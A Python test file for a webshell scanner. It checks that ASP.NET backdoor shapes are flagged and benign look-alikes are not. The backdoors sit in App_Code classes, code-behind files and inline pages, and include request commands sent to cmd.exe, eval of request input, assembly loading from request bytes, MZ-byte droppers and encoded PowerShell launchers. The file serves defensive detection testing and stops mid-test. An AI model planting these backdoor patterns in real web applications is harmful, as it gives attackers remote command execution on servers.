"""Source files ASP.NET compiles itself (issue 14, helper A1): ``App_Code`` classes, a page's
``CodeFile``/``Src`` code-behind, read as server code by the behaviour analysis.

ASP.NET compiles every ``.cs``/``.vb``/``.js`` of an application's ``App_Code`` folder when the
application starts, and the file a page names in ``CodeFile=``/``Src=`` when the page is first
requested (Web Site projects): a class dropped there runs like a page, reached by a handler or module
registered in ``web.config``, by ``Global.asax`` or by a two-line page. A ``.cs`` anywhere else in a web
folder is not compiled (and IIS does not serve it): only YARA reads it.

The files below have the code shapes of such backdoors and of ordinary application code. They were
written for these tests, name only ``example`` hosts and files, and are never compiled or run; they
are not copies of real shells. One tree holds them all and is scanned once through ``extriage scan``.
"""

from __future__ import annotations

import time
from typing import Any

import pytest

from extriage.detections.webfiles import behaviour, content

from .rule_tables import findings_for, scan_tree

ROOT = "C/inetpub/wwwroot/"

# (relative path, content, expected sink, expected source line, expected sink line, language, why compiled)
SHELLS: list[tuple[str, str, str, int, int, str, str]] = [
    (
        # a handler class in App_Code, registered in web.config under a harmless-looking path
        "portal/App_Code/StatusHandler.cs",
        "using System;\nusing System.Web;\nusing System.Reflection;\n\n"
        "public class StatusHandler : IHttpHandler\n{\n"
        "    public void ProcessRequest(HttpContext context)\n    {\n"
        "        byte[] data = context.Request.BinaryRead(context.Request.ContentLength);\n"
        "        Assembly a = Assembly.Load(data);\n"
        '        a.CreateInstance("Example.Probe");\n    }\n'
        "    public bool IsReusable { get { return false; } }\n}\n",
        "assembly-load",
        9,
        10,
        "C#",
        content.APP_CODE,
    ),
    (
        # an IHttpModule (VB) that runs a header's command on every request of the application
        "portal/App_Code/Telemetry.vb",
        "Imports System\nImports System.Web\nImports System.Diagnostics\n\n"
        "Public Class Telemetry\n    Implements IHttpModule\n"
        "    Public Sub Init(ByVal app As HttpApplication) Implements IHttpModule.Init\n"
        "        AddHandler app.BeginRequest, AddressOf OnBegin\n    End Sub\n"
        "    Private Sub OnBegin(ByVal sender As Object, ByVal e As EventArgs)\n"
        "        Dim ctx As HttpContext = HttpContext.Current\n"
        '        Dim c As String = ctx.Request.Headers("X-Example-Trace")\n'
        "        If Not String.IsNullOrEmpty(c) Then\n"
        '            Dim p As Process = Process.Start("cmd.exe", "/c " & c)\n'
        "        End If\n    End Sub\n"
        "    Public Sub Dispose() Implements IHttpModule.Dispose\n    End Sub\nEnd Class\n",
        "process",
        12,
        14,
        "VB",
        content.APP_CODE,
    ),
    (
        # the class a two-line page instantiates: it reads the request itself
        "portal/App_Code/Lib/Diag.cs",
        "using System.IO;\nusing System.Web;\n\nnamespace Example\n{\n    public class Diag\n    {\n"
        "        public void Run()\n        {\n"
        "            HttpRequest r = HttpContext.Current.Request;\n"
        '            string path = r.Form["p"];\n'
        '            File.WriteAllText(path, r.Form["t"]);\n'
        "        }\n    }\n}\n",
        "file-write",
        11,
        12,
        "C#",
        content.APP_CODE,
    ),
    (
        # JScript.NET in App_Code (the default compilers take .js there)
        "portal/App_Code/Eval.js",
        "import System.Web;\n\npublic class Evaluator {\n"
        "    public static function Go(ctx : HttpContext) {\n"
        '        var k = ctx.Request.Item["k"];\n'
        '        eval(k, "unsafe");\n    }\n}\n',
        "eval",
        5,
        6,
        "JScript",
        content.APP_CODE,
    ),
    (
        # a Web Site project page's code-behind: a SQL console fed by a text box
        "portal/admin/Report.aspx.cs",
        "using System;\nusing System.Data.SqlClient;\n\n"
        "public partial class Report : System.Web.UI.Page\n{\n"
        "    protected void Run_Click(object sender, EventArgs e)\n    {\n"
        "        var conn = new SqlConnection(ConnText.Text);\n"
        "        conn.Open();\n"
        "        var cmd = new SqlCommand(SqlText.Text, conn);\n"
        "        Grid.DataSource = cmd.ExecuteReader();\n        Grid.DataBind();\n    }\n}\n",
        "sql-connection",
        8,
        8,
        "C#",
        content.CODE_BEHIND,
    ),
    (
        # a page that takes its code from a .cs among the images (Src=): only the page names it
        "portal/img/banner.cs",
        "using System;\nusing System.Web.UI;\n\npublic class Banner : Page\n{\n"
        "    protected void Page_Load(object sender, EventArgs e)\n    {\n"
        '        string c = Request.QueryString["c"];\n'
        '        var psi = new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + c);\n'
        "        psi.UseShellExecute = false;\n        System.Diagnostics.Process.Start(psi);\n    }\n}\n",
        "process",
        8,
        9,
        "C#",
        content.NAMED_BY_PAGE,
    ),
]

# Application code of the same shapes that must not be flagged (and files ASP.NET does not compile).
BENIGN: list[tuple[str, str]] = [
    (
        "portal/web.config",
        '<?xml version="1.0"?>\n<configuration><system.webServer><modules>'
        '<add name="Telemetry" type="Telemetry"/></modules><handlers>'
        '<add name="status" verb="*" path="status.axd" type="StatusHandler"/></handlers>'
        "</system.webServer></configuration>\n",
    ),
    (
        "portal/Report.aspx",
        '<%@ Page Language="C#" CodeFile="admin/Report.aspx.cs" Inherits="Report" %>\n'
        '<html><body><form runat="server"><asp:TextBox ID="ConnText" runat="server"/>'
        '<asp:TextBox ID="SqlText" runat="server"/><asp:GridView ID="Grid" runat="server"/></form></body></html>\n',
    ),
    ("portal/Banner.aspx", '<%@ Page Language="C#" Src="img/banner.cs" Inherits="Banner" %>\n'),
    (
        # data access with parameters: a request value spliced into a fixed query is no console
        "portal/App_Code/Orders.cs",
        "using System.Data.SqlClient;\nusing System.Configuration;\nusing System.Web;\n\n"
        "public static class Orders\n{\n"
        "    public static object Find()\n    {\n"
        '        string id = HttpContext.Current.Request.QueryString["id"];\n'
        '        using (var c = new SqlConnection(ConfigurationManager.ConnectionStrings["shop"].ConnectionString))\n'
        '        using (var cmd = new SqlCommand("select * from orders where id = @id", c))\n'
        "        {\n"
        '            cmd.Parameters.AddWithValue("@id", id);\n'
        "            c.Open();\n            return cmd.ExecuteScalar();\n        }\n    }\n}\n",
    ),
    (
        # an upload handler that keeps files under a name of its own in its own folder
        "portal/App_Code/Upload.cs",
        "using System;\nusing System.IO;\nusing System.Web;\n\n"
        "public class Upload : IHttpHandler\n{\n"
        "    public void ProcessRequest(HttpContext ctx)\n    {\n"
        "        HttpPostedFile f = ctx.Request.Files[0];\n"
        '        string name = Guid.NewGuid().ToString("N") + Path.GetExtension(f.FileName);\n'
        '        f.SaveAs(Path.Combine(ctx.Server.MapPath("~/App_Data/uploads"), name));\n'
        '        ctx.Response.Write("ok");\n    }\n'
        "    public bool IsReusable { get { return true; } }\n}\n",
    ),
    (
        # a module that adds headers and logs the URL
        "portal/App_Code/Headers.vb",
        "Imports System.Web\n\nPublic Class Headers\n    Implements IHttpModule\n"
        "    Public Sub Init(ByVal app As HttpApplication) Implements IHttpModule.Init\n"
        "        AddHandler app.EndRequest, AddressOf OnEnd\n    End Sub\n"
        "    Private Sub OnEnd(ByVal sender As Object, ByVal e As EventArgs)\n"
        '        HttpContext.Current.Response.AddHeader("X-Frame-Options", "SAMEORIGIN")\n'
        "        System.Diagnostics.Trace.WriteLine(HttpContext.Current.Request.RawUrl)\n"
        "    End Sub\n"
        "    Public Sub Dispose() Implements IHttpModule.Dispose\n    End Sub\nEnd Class\n",
    ),
    (
        # a library helper that runs a fixed tool with arguments it is given (no request input)
        "portal/App_Code/Thumbs.cs",
        "using System.Diagnostics;\n\npublic static class Thumbs\n{\n"
        "    public static void Make(string src, string dst)\n    {\n"
        '        var psi = new ProcessStartInfo(@"C:\\Tools\\convert.exe", "\\"" + src + "\\" \\"" + dst + "\\"");\n'
        "        psi.UseShellExecute = false;\n        Process.Start(psi).WaitForExit();\n    }\n}\n",
    ),
    (
        # a code-behind page reading a request value for a parameterised query
        "portal/Item.aspx.cs",
        "using System;\nusing System.Data.SqlClient;\n\npublic partial class Item : System.Web.UI.Page\n{\n"
        "    protected void Page_Load(object sender, EventArgs e)\n    {\n"
        '        var cmd = new SqlCommand("select name from items where id = @id");\n'
        '        cmd.Parameters.AddWithValue("@id", Request.QueryString["id"]);\n    }\n}\n',
    ),
    (
        # a browser script: .js outside App_Code is never server code
        "portal/scripts/app.js",
        'var q = location.search; var v = eval("(" + document.getElementById("data").value + ")");\n',
    ),
]

#: The two-line page that reaches the App_Code class: flagged by the existing stub rule (a page whose
#: whole code instantiates a non-System class), beside the class's own finding.
ENTRY = ("portal/entry.aspx", '<%@ Page Language="C#" %>\n<% new Example.Diag().Run(); %>\n')

@pytest.fixture(scope="module")
def scanned(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """One tree with every file above, scanned once through ``extriage scan``."""
    files = [(s[0], s[1]) for s in SHELLS] + BENIGN + [ENTRY, INERT_SHELL_SOURCE]
    return scan_tree(tmp_path_factory.mktemp("codefiles"), ROOT, files)


@pytest.mark.parametrize(
    ("rel", "text", "sink", "source_line", "sink_line", "lang", "why"), SHELLS, ids=[s[0] for s in SHELLS]
)
def test_backdoor_in_compiled_code_is_found(
    scanned: dict[str, Any],
    rel: str,
    text: str,
    sink: str,
    source_line: int,
    sink_line: int,
    lang: str,
    why: str,
) -> None:
    found = [f for f in findings_for(scanned, rel) if f"behaviour:{sink}" in f["tags"]]
    assert found, [(f["rule_id"], f["tags"]) for f in scanned["findings"]]
    f = found[0]
    assert f["outcome"] == "webshell"
    mine = [e for e in f["evidence"] if e["fields"].get("reason") == f"WF-BEHAV-{sink.upper()}"]
    roles = {e["fields"].get("role"): e for e in mine}
    assert roles["sink"]["line"] == sink_line
    assert roles["sink"]["fields"]["language"] == lang
    assert str(roles["sink"]["fields"]["compiled"]).startswith(why)
    if source_line != sink_line:
        assert roles["source"]["line"] == source_line
    else:
        assert roles["sink"]["fields"]["source_line"] == source_line
    assert "ASP.NET compiles this source file" in f["description"]


@pytest.mark.parametrize(("rel", "text"), BENIGN, ids=[b[0] for b in BENIGN])
def test_ordinary_code_is_not_flagged(scanned: dict[str, Any], rel: str, text: str) -> None:
    assert [f["rule_id"] for f in findings_for(scanned, rel)] == []


#: A shell's source ASP.NET never compiles (not in App_Code, no page names it): not run by itself, so no
#: behaviour finding and no verdict, but named for review (a take-over web.config's compilerOptions may
#: compile it: X38, session 16).
INERT_SHELL_SOURCE = (
    "portal/backup/Diag.cs",
    "using System.Web;\npublic class Old { public void Run() {\n"
    '    System.Diagnostics.Process.Start(HttpContext.Current.Request.Form["c"]); } }\n',
)


def test_a_shell_source_no_one_compiles_is_named_for_review(scanned: dict[str, Any]) -> None:
    found = findings_for(scanned, INERT_SHELL_SOURCE[0])
    assert [f["rule_id"] for f in found] == ["WF-YARA-EXT_WEBSHELL_Source_Runs_Request_Named_Program"]
    assert found[0]["outcome"] == "info"


def test_two_line_page_is_the_stub_it_always_was(scanned: dict[str, Any]) -> None:
    assert [f["rule_id"] for f in findings_for(scanned, ENTRY[0])] == ["WF-BEHAV-DROPPED-CLASS"]


def test_coverage_counts_the_code_files(scanned: dict[str, Any]) -> None:
    web = scanned["extras"]["webfiles"]
    # App_Code: 4 shells + 4 benign; code-behind named like its page: 2; named by a page's Src: 1
    assert web["code_files_analysed"] == 11
    notes = " ".join(n for fam in scanned["coverage"]["families"].values() for n in fam["notes"])
    assert "11 source files ASP.NET compiles itself" in notes


@pytest.mark.parametrize(
    ("path", "why"),
    [
        ("c:/inetpub/wwwroot/app_code/x.cs", content.APP_CODE),
        ("d:/sites/shop/app_code/sub/y.vb", content.APP_CODE),
        ("c:/inetpub/wwwroot/app_code/z.js", content.APP_CODE),
        ("c:/inetpub/wwwroot/default.aspx.cs", content.CODE_BEHIND),
        ("c:/inetpub/wwwroot/site.master.vb", content.CODE_BEHIND),
        ("c:/inetpub/wwwroot/scripts/app.js", None),
        ("c:/inetpub/wwwroot/old/x.cs", None),
        ("c:/inetpub/wwwroot/app_code/readme.txt", None),
        ("c:/inetpub/wwwroot/app_codex/x.cs", None),
    ],
)
def test_which_files_asp_net_compiles(path: str, why: str | None) -> None:
    assert content.compiled_code(path, path.rsplit("/", 1)[1]) == why


def test_page_directive_names_its_source_file() -> None:
    page = b'<%@ Page Language="C#" AutoEventWireup="true" CodeFile="~/x/Default.aspx.cs" Inherits="D" %>'
    assert content.code_refs(page, ".aspx") == ["~/x/Default.aspx.cs"]
    assert content.code_refs(b"<% @ control src='img/a.vb' %>", ".ascx") == ["img/a.vb"]
    # a nameless main directive and an Assembly Src (a source compiled on the fly) name files too
    assert content.code_refs(b'<%@ Language="C#" CodeFile="n.cs" %>', ".aspx") == ["n.cs"]
    assert content.code_refs(b'<%@ WebHandler Class="H" %>\n<%@ Assembly Src="lib/h.cs" %>', ".ashx") == [
        "lib/h.cs"
    ]
    # CodeBehind alone names a file Visual Studio compiles into bin, not ASP.NET: no reference
    assert content.code_refs(b'<%@ Page CodeBehind="Default.aspx.cs" Inherits="D" %>', ".aspx") == []
    assert content.code_refs(b'<img src="a.cs">', ".aspx") == []


def test_code_file_is_read_whole_in_its_language() -> None:
    code = b'public class A { void F() { System.Diagnostics.Process.Start(System.Web.HttpContext.Current.Request["c"]); } }'
    hits = behaviour.analyse(code, ".cs").hits
    assert [(h["sink"], h["language"]) for h in hits] == [("process", "C#")]
    # markup-looking text in a code file is still code (no <% %> needed)
    assert behaviour.extract("<%= x %>", ".vb").code == {"vb": ["<%= x %>"]}


# --- engine changes made for real application code (the benign App_Code/code-behind set) -------------
# Each pair: the shape found in real application code (not flagged) and the shell shape beside it (still
# flagged). Written for these tests, never run.
ENGINE_PAIRS: list[tuple[str, str, str, str]] = [
    (
        # a value used in the block after a `using (...)` header is not the header's input
        "using-header-ends-its-statement",
        'string id = Request.QueryString["id"];\n'
        'using (var c = new SqlConnection(ConfigurationManager.ConnectionStrings["db"].ConnectionString))\n'
        'using (var cmd = new SqlCommand("select 1 from t where id = @id", c))\n'
        '{ cmd.Parameters.AddWithValue("@id", id); c.Open(); }\n',
        'using (var c = new SqlConnection(Request.Form["cs"]))\n{ c.Open(); }\n',
        "sql-connection",
    ),
    (
        # a GUID or number parsed from the request names no folder or file
        "parsed-guid-is-no-path",
        'Guid folder = Guid.Parse(Request.QueryString["id"]);\n'
        'System.IO.Directory.CreateDirectory(Server.MapPath(root + folder + "/"));\n',
        'string folder = Request.QueryString["id"];\nSystem.IO.Directory.CreateDirectory(folder);\n',
        "file-write",
    ),
    (
        # the request names a path below a folder the application keeps in a setting (a file manager
        # of the application's own uploads), not the whole path
        "path-below-a-configured-folder",
        'string sub = Request.Form["folder"] + "";\n'
        'System.IO.Directory.CreateDirectory(Config.UploadPath + "\\\\" + sub);\n'
        "string target = Config.UploadPath + sub + Request.Files[0].FileName;\n"
        "Request.Files[0].SaveAs(target);\n",
        'string sub = Request.Form["folder"] + "";\nSystem.IO.Directory.CreateDirectory(sub);\n',
        "file-write",
    ),
    (
        # the same upload kept beside the page (its folder spelled by Request.PhysicalPath) stays found
        "upload-under-setting-vs-beside-page",
        'var f = Request.Files[0]; bool icon = System.IO.File.Exists(Request.PhysicalPath + ".png");\n'
        "string target = Config.UploadPath + f.FileName;\nf.SaveAs(target);\n",
        "var f = Request.Files[0];\n"
        'string target = System.IO.Path.GetDirectoryName(Request.PhysicalPath) + "\\\\" + f.FileName;\n'
        "f.SaveAs(target);\n",
        "upload-beside-page",
    ),
    (
        # appended to a folder the variable already held ("temp"), the request value is only part of it;
        # appended to an empty string it is still the whole text
        "appended-to-held-text",
        'string p = "temp";\np += "/" + Request["folder"];\nSystem.IO.Directory.CreateDirectory(Server.MapPath(p));\n',
        'string p = "";\np += Request["folder"];\nSystem.IO.Directory.CreateDirectory(p);\n',
        "file-write",
    ),
    (
        # a same-host proxy (referrer checked, URL from the query, host allow-listed) is no cloaking relay;
        # content fetched from the page's own hard-coded server and shown by user agent is
        "proxy-is-no-cloaking-relay",
        "if (Request.UrlReferrer == null || Request.UrlReferrer.Host != Request.Url.Host) return;\n"
        "var uri = new Uri(Request.Url.Query.TrimStart('?'));\nif (!Allowed.IsMatch(uri.Host)) return;\n"
        "var resp = System.Net.WebRequest.Create(uri).GetResponse();\n"
        "Response.Write(new System.IO.StreamReader(resp.GetResponseStream()).ReadToEnd());\n",
        'if (Request.UserAgent.Contains("bot")) {\n'
        '  var w = System.Net.WebRequest.Create("http://example.invalid/p?h=" + Request.Url.Host);\n'
        "  Response.Write(new System.IO.StreamReader(w.GetResponse().GetResponseStream()).ReadToEnd()); }\n",
        "remote-content",
    ),
    (
        # the operator's virus scanner, named in web.config, run on an uploaded file's path; a shell
        # names its program (or takes it from the request)
        "configured-tool-with-upload-path",
        'var p = new System.Diagnostics.Process();\np.StartInfo.FileName = ConfigurationManager.AppSettings["Scanner"];\n'
        'p.StartInfo.Arguments = "/scan " + Request.Files[0].FileName;\np.Start();\n',
        'var p = new System.Diagnostics.Process();\np.StartInfo.FileName = "cmd.exe";\n'
        'p.StartInfo.Arguments = "/c " + Request["c"];\np.Start();\n',
        "process",
    ),
    (
        # File.OpenRead opens a local file (a file read at most), WebClient.OpenRead an address
        "file-openread-is-no-http",
        'var f = Request["f"];\nusing (var s = System.IO.File.OpenRead(f)) { }\n',
        'var u = Request["u"];\nvar s = new System.Net.WebClient().OpenRead(u);\n',
        "http-out",
    ),
    (
        # a posted file's stream handed to an upload helper is data, not an address
        "posted-stream-is-no-address",
        "var f = HttpContext.Current.Request.Files[0];\n"
        "var up = BlogService.UploadFile(f.InputStream, name, dir, true);\n",
        'var u = Request.Form["u"];\nnew System.Net.WebClient().UploadFile(u, "example.txt");\n',
        "http-out",
    ),
]


@pytest.mark.parametrize(("name", "benign", "shell", "sink"), ENGINE_PAIRS, ids=[p[0] for p in ENGINE_PAIRS])
def test_application_shape_is_not_flagged_but_the_shell_shape_is(
    name: str, benign: str, shell: str, sink: str
) -> None:
    def sinks(body: str) -> set[str]:
        code = "public class A : System.Web.UI.Page {\nvoid Page_Load() {\n" + body + "}\n}\n"
        return {h["sink"] for h in behaviour.analyse(code.encode(), ".cs").hits}

    assert sink not in sinks(benign)
    assert sink in sinks(shell)


def test_parsed_number_still_chooses_a_port() -> None:
    page = (
        '<%@ Page Language="C#" %>\n<% int port = int.Parse(Request.QueryString["p"]);\n'
        "   var l = new System.Net.Sockets.TcpListener(System.Net.IPAddress.Loopback, port); l.Start(); %>"
    )
    assert "socket" in {h["sink"] for h in behaviour.analyse(page.encode(), ".aspx").hits}


@pytest.mark.parametrize("name", ["sub", "dim", "call", "function"])
def test_vb_keywords_are_ordinary_names_in_csharp(name: str) -> None:
    """``sub``, ``dim``, ``call`` (VB keywords) and ``function`` (JScript) are ordinary C# variable names:
    a shell naming its variable so was not traced."""
    code = (
        "public class A : System.Web.UI.Page {\nvoid Page_Load() {\n"
        f'string {name} = Request["c"];\nSystem.Diagnostics.Process.Start({name});\n}}\n}}\n'
    )
    assert "process" in {h["sink"] for h in behaviour.analyse(code.encode(), ".cs").hits}


# --- requests of helpers X7 and X8 (session 8; /work/notes/x7_to_a1.md, x8_to_a1.md) ------------------
# Harmless reproductions written for these tests (never run); each beside the shape that must stay quiet.


def _sinks(page: str, ext: str = ".aspx") -> set[str]:
    return {h["sink"] for h in behaviour.analyse(page.encode(), ext).hits}


def test_file_info_only_read_is_no_write() -> None:
    """X7: a listing that reads new FileInfo(f).Length was labelled file-write; a FileInfo used to
    delete stays one."""
    listing = (
        '<%@ Page Language="C#" %>\n<% foreach (string f in System.IO.Directory.GetFiles(Request["p"]))\n'
        "   Response.Write(f + new System.IO.FileInfo(f).Length); %>"
    )
    assert _sinks(listing) == {"file-read"}
    deleting = '<%@ Page Language="C#" %>\n<% var fi = new System.IO.FileInfo(Request["p"]); fi.Delete(); %>'
    assert "file-write" in _sinks(deleting)


def test_assignment_target_is_no_input() -> None:
    """X8: a control the output of a fixed tool is written into is not the tool's input."""
    shown = (
        '<%@ Page Language="C#" %>\n<script runat="server">\nvoid Page_Load(object s, EventArgs e) {\n'
        "  Output.Text = System.Diagnostics.Process.Start(new System.Diagnostics.ProcessStartInfo("
        '"netstat.exe", "-e -s")).StandardOutput.ReadToEnd();\n}\n</script>'
    )
    assert "process" not in _sinks(shown)
    typed = shown.replace('"-e -s"', '"-e " + Args.Text')
    assert "process" in _sinks(typed)


@pytest.mark.parametrize(
    ("ext", "page"),
    [
        (
            ".asmx",
            '<%@ WebService Language="JScript" class="ExampleService"%>\nimport System.Web.Services\n'
            "public class ExampleService extends WebService {\n"
            "    WebMethodAttribute function Run(code : String) : String { return eval(code); }\n}",
        ),
        (
            ".svc",
            '<%@ ServiceHost Language="JScript" Service="S" %>\nimport System.ServiceModel;\n'
            "ServiceContractAttribute public class S {\n"
            "    OperationContractAttribute public function exec(t : String) : String { return eval(t); }\n}",
        ),
        (
            ".svc",
            '<%@ ServiceHost Language="C#" Service="S" %>\nusing System.ServiceModel;\n[ServiceContract] public class S {\n'
            "    [OperationContract] public string Exec(string t) { return System.Diagnostics.Process.Start(t).Id.ToString(); }\n}",
        ),
    ],
    ids=["jscript-web-method", "jscript-wcf-operation", "cs-wcf-operation"],
)
def test_service_method_parameters_are_request_input(ext: str, page: str) -> None:
    """X7/X8: the parameters of a JScript web method (name : Type) and of WCF operations are filled
    from the request, like a C# [WebMethod]'s."""
    assert _sinks(page, ext) & {"eval", "process"}


def test_service_without_dangerous_use_of_its_parameters() -> None:
    page = (
        '<%@ WebService Language="JScript" class="Calc"%>\nimport System.Web.Services\n'
        "public class Calc extends WebService {\n"
        "    WebMethodAttribute function Add(a : int, b : int) : int { return a + b; }\n"
        "    WebMethodAttribute function Rate(x : String) : String { return evaluateRate(x); }\n"
        '    WebMethodAttribute function Lit() : String { return eval("1+1"); }\n}'
    )
    assert _sinks(page, ".asmx") == set()


def test_assembly_downloaded_from_a_request_address_is_loaded() -> None:
    """X7: loading the bytes a page downloads from an address the request chose (Sharp4WebCmd shape)
    is a loader; what a server answered stays no input for the other sinks."""
    loader = (
        '<%@ Page Language="C#" %><% var b = new System.Net.WebClient().DownloadData(Request.Form["u"]);\n'
        "   System.Reflection.Assembly.Load(b).EntryPoint.Invoke(null, null); %>"
    )
    assert "assembly-load" in _sinks(loader)
    fixed = (
        '<%@ Page Language="C#" %><% var b = new System.Net.WebClient().DownloadString("https://example.invalid/n");\n'
        '   Response.Write(b); var a = System.Reflection.Assembly.LoadFrom(Server.MapPath("~/bin/Example.dll")); %>'
    )
    assert _sinks(fixed) == set()
    saved = (
        '<%@ Page Language="C#" %><% var t = new System.Net.WebClient().DownloadString(Request["u"]);\n'
        '   System.IO.File.WriteAllText(Server.MapPath("~/App_Data/x.txt"), t); %>'
    )
    assert _sinks(saved) == {"http-out"}


@pytest.mark.parametrize(
    ("page", "found"),
    [
        (
            '<%@ Page Language="C#" %> <script runat="server">ExampleTool t = new ExampleTool();</script>',
            True,
        ),
        ('<%@ Page Language="VB" %> <script runat="server">Dim t As New ExampleTool()</script>', True),
        (
            '<%@ Page Language="C#" %> <script runat="server">ExampleTool t = new ExampleTool();</script><%= t.Title %>',
            False,
        ),
        (
            '<%@ Page Language="C#" %> <script runat="server">ExampleTool t = new ExampleTool();</script>'
            '<form runat="server"><asp:Label ID="L" runat="server"/></form>',
            False,
        ),
        ('<%@ Page Language="C#" %> <script runat="server">DataTable t = new DataTable();</script>', False),
        (
            '<%@ Page Language="C#" %> <script runat="server">var t = new System.Text.StringBuilder();</script>',
            False,
        ),
    ],
    ids=[
        "cs-undotted-stub",
        "vb-undotted-stub",
        "field-used",
        "beside-server-controls",
        "framework-type",
        "system-type",
    ],
)
def test_stub_of_a_class_with_no_namespace(page: str, found: bool) -> None:
    """X7: a page whose whole code instantiates a class of no namespace (its constructor in a dropped
    Bin DLL does the work) is the stub dotted names already were; a page using the object, one with
    server controls, and common framework types are not."""
    assert ("dropped-class" in _sinks(page)) is found


@pytest.mark.parametrize(
    "page",
    [
        '<%@ Page Language="C#" %><% System.Diagnostics.Pro\u200bcess.Start(Req\u202euest["c"]); %>',
        '<%@ Page Language="C#" %><% System.Diagnostics.Pro\\u200Bcess.Start(Request["c"]); %>',
        '<%@ Page Language="C#" %><% System.Diagnostics.\ufeffProcess.Start(Request\u2060["c"]); %>',
    ],
    ids=["raw-zero-width", "escaped-zero-width", "bom-and-word-joiner"],
)
def test_format_characters_inside_names_are_dropped(page: str) -> None:
    """X8: C# ignores Unicode format characters (zero-width, bidi controls, BOM) inside identifiers;
    a tunnel generator hides its calls with them. They no longer hide a sink (counted as obfuscation)."""
    hits = behaviour.analyse(page.encode(), ".aspx").hits
    assert [h["sink"] for h in hits] == ["process"] and hits[0]["obfuscation"]


def test_format_characters_in_ordinary_text_find_nothing() -> None:
    assert _sinks('<%@ Page Language="C#" %><% Response.Write("a\u200bb" + Request["q"]); %>') == set()


_B64 = "VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIAAnAGUAeABhAG0AcABsAGUAJwA7AFcAcgBpAHQAZQAtAE8AdQB0AHAAdQB0AA=="


@pytest.mark.parametrize(
    ("page", "sink"),
    [
        (
            '<%@ Page Language="C#" %><% byte[] b = new byte[] { 0x4d, 0x5a, 0x90, 0x00 };\n'
            '  System.IO.File.WriteAllBytes(System.IO.Path.GetTempPath() + "example.exe", b);\n'
            '  System.Diagnostics.Process.Start(System.IO.Path.GetTempPath() + "example.exe"); %>',
            "embedded-executable",
        ),
        (
            '<%@ Page Language="VB" %><% Dim b As Byte() = {&H4D, &H5A, &H90, &H0}\n'
            'My.Computer.FileSystem.WriteAllBytes("C:\\Temp\\example.exe", b, False)\nProcess.Start("C:\\Temp\\example.exe") %>',
            "embedded-executable",
        ),
        (
            f'<%@ Page Language="C#" %><% System.Diagnostics.Process.Start("powershell", "-EncodedCommand {_B64}"); %>',
            "encoded-powershell",
        ),
        (
            f'<%@ Page Language="VB" %><% Dim c As String = "{_B64}"\nShell("powershell.exe -nop -e " & c) %>',
            "encoded-powershell",
        ),
    ],
    ids=["cs-mz-array-dropper", "vb-mz-array-dropper", "enc-inline", "vb-enc-variable"],
)
def test_launcher_with_its_payload_in_the_page(page: str, sink: str) -> None:
    """X8: launchers with no request input - an executable held in the page written out and started, an
    encoded PowerShell command kept in the page - are behaviours of their own."""
    assert sink in _sinks(page)


@pytest.mark.parametrize(
    "page",
    [
        '<%@ Page Language="C#" %><% byte[] icon = new byte[] { 0x89, 0x50, 0x4e, 0x47 };\n'
        '  System.IO.File.WriteAllBytes(Server.MapPath("~/App_Data/i.png"), icon);\n'
        '  System.Diagnostics.Process.Start(Server.MapPath("~/bin/thumbs.exe")); %>',
        '<%@ Page Language="C#" %><% byte[] setup = new byte[] { 0x4d, 0x5a, 0x90, 0x00 };\n'
        '  Response.ContentType = "application/octet-stream"; Response.BinaryWrite(setup); %>',
        f'<%@ Page Language="C#" %><% const string Logo = "{_B64}";\n'
        '  System.Diagnostics.Process.Start("powershell.exe", "-ExecutionPolicy Bypass -File " + Server.MapPath("~/App_Data/r.ps1")); %>',
        f'<%@ Page Language="C#" %><script runat="server">const string Snippet = "powershell -enc {_B64}";\n'
        "void Page_Load(object s, EventArgs e) { Code.Text = Snippet; }</script>",
    ],
    ids=["png-written-fixed-tool", "installer-to-browser", "script-file-and-logo", "snippet-shown"],
)
def test_page_payloads_that_are_not_launched(page: str) -> None:
    assert _sinks(page) & {"embedded-executable", "encoded-powershell"} == set()


def test_start_info_variable_filled_later_is_still_the_sink() -> None:
    """Guard of the assignment-target rule: ``var psi = new ProcessStartInfo()`` is the sink's own object
    (X8's ScreenConnect extension handler shape: arguments set on it afterwards, then started)."""
    code = (
        "public class A : System.Web.UI.Page { void Page_Load() {\n"
        " var psi = new System.Diagnostics.ProcessStartInfo();\n"
        ' psi.FileName = "cmd.exe";\n psi.Arguments = "/c " + Request["c"];\n'
        " var p = new System.Diagnostics.Process(); p.StartInfo = psi; p.Start();\n} }"
    )
    assert "process" in _sinks(code, ".cs")


def test_dropper_started_through_start_info() -> None:
    """X8's msfvenom aspx-exe template: the dropped file started through StartInfo.FileName."""
    page = (
        '<%@ Page Language="C#" %><script runat="server">void Page_Load(object s, EventArgs e) {\n'
        "  byte[] b = new byte[4] { 0x4d,0x5a,0x00,0x00 };\n"
        '  string f = System.IO.Path.Combine(System.IO.Path.GetTempPath(), "example.exe");\n'
        "  System.IO.FileStream fs = System.IO.File.Create(f); fs.Write(b, 0, b.Length); fs.Close();\n"
        "  var p = new System.Diagnostics.Process(); p.StartInfo.FileName = f; p.Start(); }</script>"
    )
    assert "embedded-executable" in _sinks(page)


def test_names_in_a_legacy_code_page_keep_their_taint() -> None:
    """X10: a page saved in its site's code page (GBK here) with a local named in that script: the
    bytes that are not UTF-8 read as letters of their own (extract.decode), so the name stays a name;
    the line shown keeps U+FFFD."""
    page = '<%@ Page Language="C#" %><% string 命令 = Request.Form["x"]; System.Diagnostics.Process.Start("hostname", 命令); %>'
    hits = behaviour.analyse(page.encode("gbk"), ".aspx").hits
    assert [h["sink"] for h in hits] == ["process"] and "\ufffd" in hits[0]["raw"]


def test_shell_object_created_by_clsid() -> None:
    """X10: a shell object created from its CLSID (an <object classid=...> tag) handed a request command."""
    page = (
        '<%@ Page Language="C#" %><object id="sh" runat="server" '
        'classid="clsid:72C24DD5-D70A-438B-8A42-98424B88AFB8"></object>\n<% sh.Run(Request["c"]); %>'
    )
    assert {"com-shell", "shell-object"} <= _sinks(page)


def test_what_is_done_with_a_calls_result_is_not_its_input() -> None:
    """A dispatcher (benign: ylhelloworld/web_estate response.aspx.cs) that loads its own App_Code
    assembly by name and asks it for a request-named type: the request reaches GetType on Load's
    result, not Load; the variable holding that result is not Load's object either. Loading request
    bytes, or a chain after a tainted call, stays a loader."""
    by_name = (
        "using System.Reflection;\npublic partial class R : System.Web.UI.Page {\n"
        "  protected void Page_Load(object s, System.EventArgs e) {\n"
        '    string c = Request.QueryString["class"];\n'
        '    System.Type t = Assembly.Load("App_Code").GetType(c);\n    Response.Write(t.Name);\n  }\n}'
    )
